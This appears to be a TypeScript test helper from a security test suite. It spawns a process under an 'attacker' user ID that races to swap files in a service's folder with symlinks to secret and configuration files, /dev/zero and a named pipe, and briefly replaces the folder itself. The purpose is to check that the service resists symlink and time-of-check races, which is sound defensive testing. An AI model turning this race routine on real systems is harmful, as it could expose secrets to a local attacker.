import { spawn } from "node:child_process";
import { join } from "node:path";
import { openclawNames } from "../../../lib/model/openclaw/openclaw-paths";
import { attacker, type OddFiles } from "./hostile-folder";

/** Exchanges what lies in a folder, and the folder itself, as fast as it can, by the attacker's own rights. */
const program = `
const fs = require("node:fs");
const { folder, outside, names, pipe } = JSON.parse(process.argv[1]);
const quietly = (work) => { try { work(); } catch {} };
let rounds = 0;
const pick = (list) => list[Math.floor(Math.random() * list.length)];
process.on("SIGTERM", () => { process.stdout.write(rounds + "\\n"); process.exit(0); });
const turn = () => {
  for (let i = 0; i < 50; i++) {
    rounds++;
    const path = folder + "/" + pick(names);
    quietly(() => fs.unlinkSync(path + ".new"));
    pick([
      () => fs.symlinkSync(pick([outside + "/secret", outside + "/service/openclaw.json", outside + "/service", "/dev/zero"]), path + ".new"),
      () => fs.writeFileSync(path + ".new", "{}", { flag: "wx" }),
      () => fs.linkSync(pipe, path + ".new"),
    ].map((make) => () => { quietly(make); quietly(() => fs.renameSync(path + ".new", path)); }))();
    if (rounds % 7 === 0) {
      quietly(() => fs.renameSync(folder, folder + ".away"));
      quietly(() => fs.symlinkSync(outside + "/service", folder));
      quietly(() => fs.unlinkSync(folder));
      quietly(() => fs.renameSync(folder + ".away", folder));
    }
  }
  setImmediate(turn);
};
process.stdout.write("begun\\n");
turn();
`;

export interface Swapping {
  rounds(): number;
  end(): Promise<void>;
}

export async function startSwapping(options: {
  readonly folder: string;
  readonly outside: string;
  readonly odd: OddFiles;
}): Promise<Swapping> {
  const { folder, outside, odd } = options;
  const { own, resolver, secretId, guide, gateway, fragment } = openclawNames;
  const names = [guide, gateway, fragment, own, `${own}/${resolver}`, `${own}/${secretId}`];
  const pipe = join(folder, "pipe");
  odd.put("pipe", pipe);
  const child = spawn(process.execPath, ["-e", program, JSON.stringify({ folder, outside, names, pipe })], {
    uid: attacker,
    gid: attacker,
    cwd: "/",
    env: {},
    stdio: ["ignore", "pipe", "ignore"],
  });
  let said = "";
  const begun = new Promise<void>((resolve) => {
    child.stdout.setEncoding("utf8").on("data", (text: string) => {
      said += text;
      resolve();
    });
  });
  const closed = new Promise<void>((resolve) => child.once("close", () => resolve()));
  await begun;
  return {
    rounds: () => Number(/^\d+$/m.exec(said)?.[0] ?? 0),
    async end() {
      child.kill("SIGTERM");
      await closed;
    },
  };
}
